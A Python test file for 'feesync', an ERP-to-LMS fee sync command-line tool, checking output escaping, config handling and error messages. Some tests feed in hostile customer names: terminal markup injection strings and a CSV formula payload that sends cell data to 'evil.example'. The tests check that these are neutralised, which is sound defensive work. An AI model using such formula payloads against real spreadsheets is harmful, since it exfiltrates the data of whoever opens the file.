"""Operator text prints ERP data exactly as the ERP holds it: square brackets in a customer name or a
document id are text, never terminal markup (which would hide part of the name or crash the command)."""

from __future__ import annotations

import json
from datetime import timedelta

from tests import proc, scenario

HOSTILE = ["Omar [/closed]", "Sana [old account]", "Ali [bold]Khan[/bold]", "[link=http://x]Zed[/link]"]


def test_bracketed_erp_text_is_printed_verbatim_by_once_list_and_show(sandboxes, tmp_path):
    scn = scenario.build(n_students=1, receipts_per_student=1)
    pes = scn["erp_data"]["documents"]["Payment Entry"]
    base = scenario.datetime(2026, 11, 2, 9, 0, tzinfo=scenario.KHI)
    for i, name in enumerate(HOSTILE):   # customers the LMS has no student for: unknown_student conflicts
        pes.append(scenario.new_receipt(900 + i, name, 1000 + i, None, base + timedelta(seconds=i)))
    lms, erp = sandboxes(scn)
    cfg = proc.write_config(tmp_path, lms, erp)
    wide = {"COLUMNS": "160"}

    once = proc.run("--config", str(cfg), "once", extra_env=wide)
    assert once.returncode == 1, once.stderr[-2000:]   # conflicts were opened
    assert "unknown_student 4" in once.stdout

    listed = proc.run("--config", str(cfg), "conflicts", "list", extra_env=wide)
    assert listed.returncode == 0, listed.stderr[-3000:]
    assert "Traceback" not in listed.stderr
    for name in HOSTILE:
        assert name[:18] in listed.stdout, (name, listed.stdout)
    assert "\x1b]8;" not in listed.stdout   # no terminal hyperlink escape from "[link=...]"

    rows = json.loads(proc.run("--config", str(cfg), "conflicts", "list", "--json").stdout)["conflicts"]
    by_customer = {r["customer"]: r["id"] for r in rows}
    assert set(by_customer) == set(HOSTILE)
    for name in HOSTILE:
        shown = proc.run("--config", str(cfg), "conflicts", "show", str(by_customer[name]), extra_env=wide)
        assert shown.returncode == 0, shown.stderr[-3000:]
        assert f"customer  {name}" in shown.stdout, shown.stdout


def test_printed_next_steps_name_the_program_and_config_as_the_operator_ran_them(sandboxes, tmp_path):
    """`.venv/bin/feesync --config feesync.toml conflicts show` (feesync not on PATH) prints commands
    that start the same way, so they paste as printed; the report carries the absolute config path."""
    import subprocess
    import sys
    from pathlib import Path
    scn = scenario.build(n_students=1, receipts_per_student=1)
    scn["erp_data"]["documents"]["Payment Entry"].append(scenario.new_receipt(
        900, "Nobody Known", 1000, None, scenario.datetime(2026, 11, 2, 9, 0, tzinfo=scenario.KHI)))
    lms, erp = sandboxes(scn)
    proc.write_config(tmp_path, lms, erp)
    program = str(Path(sys.executable).parent / "feesync")
    env = proc.env({"PATH": "/usr/bin:/bin", "COLUMNS": "200"})

    def run(*args):
        return subprocess.run([program, "--config", "feesync.toml", *args], cwd=tmp_path, env=env,
                              capture_output=True, text=True, timeout=120)
    assert run("once").returncode == 1
    cid = json.loads(run("conflicts", "list", "--json").stdout)["conflicts"][0]["id"]
    shown = json.loads(run("conflicts", "show", str(cid), "--json").stdout)
    assert shown["commands"][0] == (f'{program} --config feesync.toml conflicts map --source erp '
                                    f'--customer "Nobody Known" --student LMS_STUDENT_ID')
    assert f"$ {program} --config feesync.toml conflicts ignore {cid} --note" in run("conflicts", "show", str(cid)).stdout
    assert f"{program} --config feesync.toml status --json" in run("status").stdout
    narrow = subprocess.run([program, "--config", "feesync.toml", "status"], cwd=tmp_path, capture_output=True,
                            text=True, timeout=60, env={**env, "COLUMNS": "80"}).stdout.splitlines()
    assert max(len(line) for line in narrow) <= 80
    cursor = json.loads(run("status", "--json").stdout)["sources"][0]["cursor"]["changed_at"][:16].replace("T", " ")
    assert narrow[1].split()[:3] == ["erp", *cursor.split()], narrow   # one line per source, cursor whole
    report = run("report", "--out", "rep", "--json")
    assert report.returncode == 0, report.stderr[-2000:]
    html = (tmp_path / "rep" / "feesync-report.html").read_text()
    assert f"{program} --config {tmp_path / 'feesync.toml'} conflicts map" in html


def test_a_missing_folder_is_a_clear_refusal_or_is_created_never_a_traceback(tmp_path):
    from sync.state import Store
    Store.open(tmp_path / "state.db").close()
    cfg = tmp_path / "feesync.toml"
    cfg.write_text(f'state_path = "{tmp_path / "state.db"}"\n')
    backup = proc.run("--config", str(cfg), "state", "backup", str(tmp_path / "no" / "such" / "b.db"), secrets=False)
    assert backup.returncode == 2 and "Traceback" not in backup.stderr
    assert f"folder '{tmp_path / 'no' / 'such'}' does not exist" in backup.stderr
    assert not (tmp_path / "no").exists()
    out = tmp_path / "new" / "dir" / "c.csv"
    export = proc.run("--config", str(cfg), "conflicts", "export", "--format", "csv", "--out", str(out), secrets=False)
    assert export.returncode == 0, export.stderr
    assert out.read_text().splitlines()[0].startswith("id,")
    denied = proc.run("--config", str(cfg), "conflicts", "export", "--format", "csv", "--out", str(tmp_path),
                      secrets=False)
    assert denied.returncode == 2 and "Traceback" not in denied.stderr and "is a directory" in denied.stderr


def test_liveness_on_a_config_without_sources_is_not_healthy(tmp_path):
    """The demo's config (state only, no source): nothing would sync, so the probe must not say alive."""
    from sync.state import Store
    Store.open(tmp_path / "state.db").close()
    cfg = tmp_path / "feesync.toml"
    cfg.write_text(f'state_path = "{tmp_path / "state.db"}"\n')
    probe = proc.run("--config", str(cfg), "check", "--liveness", "--json", secrets=False)
    assert probe.returncode == 1, probe.stdout + probe.stderr
    data = json.loads(probe.stdout)
    assert data["ok"] is False and "no enabled source" in data["problems"][0]


def test_a_damaged_state_file_is_named_with_what_to_do_not_a_traceback(tmp_path):
    state = tmp_path / "state.db"
    state.write_bytes(b"this is not a database, it was overwritten by accident\n" * 100)
    cfg = tmp_path / "feesync.toml"
    cfg.write_text(f'state_path = "{state}"\n')
    for cmd in (["status"], ["conflicts", "list"], ["report", "--out", str(tmp_path / "r")]):
        out = proc.run("--config", str(cfg), *cmd, secrets=False)
        text = " ".join(out.stderr.split())
        assert out.returncode == 2 and "Traceback" not in out.stderr, out.stderr[-2000:]
        assert "file is not a database" in text and "restore the latest backup" in text, text


def test_config_after_the_command_works_as_before_it(tmp_path):
    from sync.state import Store
    Store.open(tmp_path / "state.db").close()
    cfg = tmp_path / "feesync.toml"
    cfg.write_text(f'state_path = "{tmp_path / "state.db"}"\n')
    after = proc.run("conflicts", "list", "--json", "--config", str(cfg), secrets=False)
    before = proc.run("--config", str(cfg), "conflicts", "list", "--json", secrets=False)
    assert after.returncode == before.returncode == 0, after.stderr
    assert json.loads(after.stdout)["total"] == json.loads(before.stdout)["total"] == 0
    assert proc.run("status", f"--config={cfg}", secrets=False).returncode == 0


def test_erp_text_that_looks_like_a_formula_is_exported_as_text(sandboxes, tmp_path):
    """A customer named `=HYPERLINK(...)` must not become a live formula in the CSV a person opens."""
    import csv
    import io
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    scn = scenario.build(n_students=1, receipts_per_student=1)
    scn["erp_data"]["documents"]["Payment Entry"].append(scenario.new_receipt(
        900, evil, 1000, None, scenario.datetime(2026, 11, 2, 9, 0, tzinfo=scenario.KHI)))
    lms, erp = sandboxes(scn)
    cfg = proc.write_config(tmp_path, lms, erp)
    assert proc.run("--config", str(cfg), "once").returncode == 1
    out = proc.run("--config", str(cfg), "conflicts", "export", "--format", "csv")
    [row] = list(csv.DictReader(io.StringIO(out.stdout)))
    assert row["customer"] == "'" + evil and row["amount"] == "1000"
    report = proc.run("--config", str(cfg), "report", "--out", str(tmp_path / "rep"), "--json")
    assert report.returncode == 0
    assert "'" + evil.replace('"', '""') in (tmp_path / "rep" / "conflicts.csv").read_text()
    assert json.loads(proc.run("--config", str(cfg), "conflicts", "list", "--json").stdout)[
        "conflicts"][0]["customer"] == evil   # JSON keeps the value as the ERP holds it


def test_log_events_of_a_run_carry_its_institute_and_run_id_and_count_only_its_own_requests(sandboxes, tmp_path,
                                                                                             capfd, monkeypatch):
    scn = scenario.build(n_students=2, receipts_per_student=2)
    lms, erp = sandboxes(scn)
    cfg = proc.write_config(tmp_path, lms, erp)

    def events(out):
        return [json.loads(line) for line in out.stderr.splitlines() if line.startswith("{")]
    first = events(proc.run("--config", str(cfg), "once"))
    [finished] = [e for e in first if e["event"] == "run.finished"]
    pushes = [e for e in first if e["event"] == "push.succeeded"]
    assert len(pushes) == 4
    assert all(e["institute"] == "default" and e["run_id"] == finished["run_id"] and e["source"] == "erp"
               for e in pushes), pushes[0]
    assert finished["lms_requests"].get("201") == 4
    # in one long-lived process (the daemon), a second, idle run reports its own requests: none
    from sync import logs
    from sync.app import build_app
    from sync.config import load_settings
    for k, v in scenario.secret_env().items():
        monkeypatch.setenv(k, v)
    settings = load_settings(cfg)
    logs.configure("json", "info")
    app = build_app(settings, sleep=lambda s: None)
    try:
        erp.insert("Payment Entry", scenario.new_receipt(77, "Student 0", 1000, "ACC-SINV-2026-00001",
                                                         scenario.datetime(2026, 11, 3, 9, 0, tzinfo=scenario.KHI)))
        capfd.readouterr()
        app.engine.run_once("erp")
        app.engine.run_once("erp")
        runs = [json.loads(line) for line in capfd.readouterr().err.splitlines()
                if line.startswith("{") and '"run.finished"' in line]
    finally:
        app.close()
    assert [r["lms_requests"].get("201", 0) for r in runs] == [1, 0], [r["lms_requests"] for r in runs]


def test_logging_follows_the_current_stderr_after_the_one_at_start_up_is_closed(monkeypatch):
    import io
    import sys

    from sync import logs
    saved = logs.structlog.get_config()
    first = io.StringIO()
    monkeypatch.setattr(sys, "stderr", first)
    try:
        logs.configure("json", "info")
        logs.get_logger().info("one")
        first.close()   # the stream in place at start-up goes away (a test's capture, a redirect)
        second = io.StringIO()
        monkeypatch.setattr(sys, "stderr", second)
        logs.get_logger().info("two")
    finally:
        logs.structlog.configure(**saved)
    assert [json.loads(line)["event"] for line in second.getvalue().splitlines()] == ["two"]


def test_an_empty_state_file_is_refused_never_replaced_by_a_new_ledger(tmp_path):
    """A 0-byte file (a failed copy or restore) used to become a new, empty ledger without a word."""
    state = tmp_path / "state.db"
    state.write_bytes(b"")
    cfg = tmp_path / "feesync.toml"
    cfg.write_text(f'state_path = "{state}"\n')
    for cmd in (["status"], ["check", "--offline"], ["once"], ["state", "upgrade"]):
        out = proc.run("--config", str(cfg), *cmd, secrets=False,
                       extra_env={"FEESYNC_LMS__API_KEY": scenario.LMS_KEY})
        text = " ".join((out.stdout + out.stderr).split())
        assert out.returncode in (1, 2) and "Traceback" not in text, (cmd, text[-2000:])
        assert "is an empty file (0 bytes)" in text, (cmd, text)
    assert state.stat().st_size == 0


def test_a_state_path_that_is_a_url_or_starts_with_a_tilde_means_what_it_says(tmp_path, monkeypatch):
    from sync.config import load_settings
    monkeypatch.setenv("HOME", str(tmp_path))
    cfg = tmp_path / "feesync.toml"
    cfg.write_text('state_path = "~/fs-state.db"\n')
    assert load_settings(cfg, secrets=False).state_path == str(tmp_path / "fs-state.db")
    cfg.write_text('state_path = "sqlite:///tmp/x.db"\n')
    out = proc.run("--config", str(cfg), "check", "--offline", "--json", secrets=False)
    assert out.returncode == 1
    assert "state_path: is a file path; a database URL goes in state_url" in json.loads(out.stdout)["problems"]


def test_a_change_the_state_store_refuses_is_one_line_without_the_sql(sandboxes, tmp_path):
    """`conflicts resolve` on a read-only store printed a 72-line traceback with the SQL and its parameters."""
    scn = scenario.build(n_students=1, receipts_per_student=1)
    lms, erp = sandboxes(scn)
    erp.insert("Payment Entry", scenario.new_receipt(90, "Nobody Known", 1000, None,
                                                     scenario.datetime(2026, 11, 3, 9, 0, tzinfo=scenario.KHI)))
    cfg = proc.write_config(tmp_path, lms, erp)
    assert proc.run("--config", str(cfg), "once").returncode == 1
    [conflict] = json.loads(proc.run("--config", str(cfg), "conflicts", "list", "--json").stdout)["conflicts"]
    ro_cfg = tmp_path / "ro.toml"
    state = tmp_path / "state.db"
    assert f'state_path = "{state}"' in cfg.read_text()
    ro_cfg.write_text(cfg.read_text().replace(
        f'state_path = "{state}"', f'state_url = "sqlite:///file:{state}?mode=ro&uri=true"'))
    out = proc.run("--config", str(ro_cfg), "conflicts", "resolve", str(conflict["id"]), "--note", "paid in cash")
    assert out.returncode == 2 and "Traceback" not in out.stderr, out.stderr[-2000:]
    assert out.stderr.count("\n") <= 3 and "UPDATE" not in out.stderr and "paid in cash" not in out.stderr, out.stderr
    assert "attempt to write a readonly database" in " ".join(out.stderr.split())
    still = json.loads(proc.run("--config", str(cfg), "conflicts", "list", "--json").stdout)["conflicts"]
    assert [c["id"] for c in still] == [conflict["id"]]
